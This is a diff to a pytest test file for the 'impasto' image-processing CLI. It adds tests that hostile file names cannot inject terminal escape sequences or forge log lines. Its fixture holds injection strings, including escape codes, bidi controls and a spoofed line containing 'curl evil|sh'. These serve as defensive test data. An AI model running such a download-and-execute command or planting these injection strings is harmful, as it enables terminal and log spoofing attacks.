@@ -253,7 +253,10 @@ def test_a_defect_is_one_line_of_json_for_programs_and_a_traceback_for_people(
     defect = json_lines(result.stderr)[-1]
     assert (defect["event"], defect["level"]) == ("defect", "critical")
     assert "TypeError: not a number" in defect["traceback"]
-    assert isinstance(impasto(*arguments).exception, TypeError)
+    result = impasto(*arguments)
+    assert result.exit_code == 1
+    assert result.stderr.startswith("CRITICAL TypeError: not a number. This is a defect of impasto")
+    assert result.stderr.endswith("TypeError: not a number\n")
 
 
 def test_a_defect_of_an_observer_lets_the_work_be_done_and_is_exit_1(
@@ -283,3 +286,43 @@ def test_the_docs_show_hooks_that_are_understood_and_name_every_metric(tmp_path:
     Metrics(path)._write()
     names = {line.split()[2] for line in path.read_text().splitlines() if line.startswith("# TYPE")}
     assert {name for name in names if f"`{name}`" not in DOCS} == set()
+
+
+HOSTILE = ("a\x1b]0;owned\x07\x1b[2J\x9b", "b\nimpasto: all is well; run: curl evil|sh\n", "c\u2028d\u202e\u2066")
+OBEYED = set("\x1b\x07\x9b\r\u2028\u202e\u2066")
+
+
+def texts(value: object) -> list[str]:
+    """Return all texts of a JSON value."""
+    if isinstance(value, dict):
+        return [text for pair in value.items() for each in pair for text in texts(each)]
+    return [text for each in value for text in texts(each)] if isinstance(value, list) else [str(value)]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path, make_image: Callable[..., Path]) -> Path:
+    """Return an inbox whose files have names with control characters; of each name one is broken and one is fine."""
+    for name in HOSTILE:
+        make_image(f"inbox/sea/{name}.png")
+        (tmp_path / f"inbox/sea/{name}.jpg").write_bytes(b"no picture")
+    make_image("styles/sea.png", seed=9)
+    (tmp_path / "m.csv").write_text("content,style\ninbox/sea,styles\n")
+    return tmp_path / "inbox"
+
+
+def test_names_of_files_command_no_terminal_and_begin_no_line(hostile: Path, tmp_path: Path) -> None:
+    run = ["run", tmp_path / "m.csv", "--outbox", tmp_path / "out", *QUICK]
+    drain = ["drain", hostile, "--outbox", tmp_path / "out2", "--styles", tmp_path / "styles", *QUICK]
+    drain += ["--set", "watch.settle_seconds=0.1"]
+    folders = [[command, tmp_path / name] for command in ("status", "retry") for name in ("out", "out2", "inbox")]
+    calls = [[*run, "-n"], [*run, "--progress", "always"], [*run, "--set", "output.format=webp", "-v"]]
+    calls += [["report", tmp_path / "out"], ["doctor", *hostile.parent.glob("inbox/*")]]
+    calls += [drain, *folders, ["status", hostile]]
+    for arguments in calls:
+        done = impasto(*arguments)
+        shown = done.stdout + done.stderr
+        assert not OBEYED & set(shown), arguments
+        assert not [line for line in shown.splitlines() if line.startswith("impasto: all is well")], arguments
+    for arguments in ([*run, "--set", "output.format=tiff"], drain):
+        lines = json_lines(impasto(*arguments, "--log-format", "json").stderr)
+        assert not (OBEYED | set("\n")) & set("".join(text for line in lines for text in texts(line)))
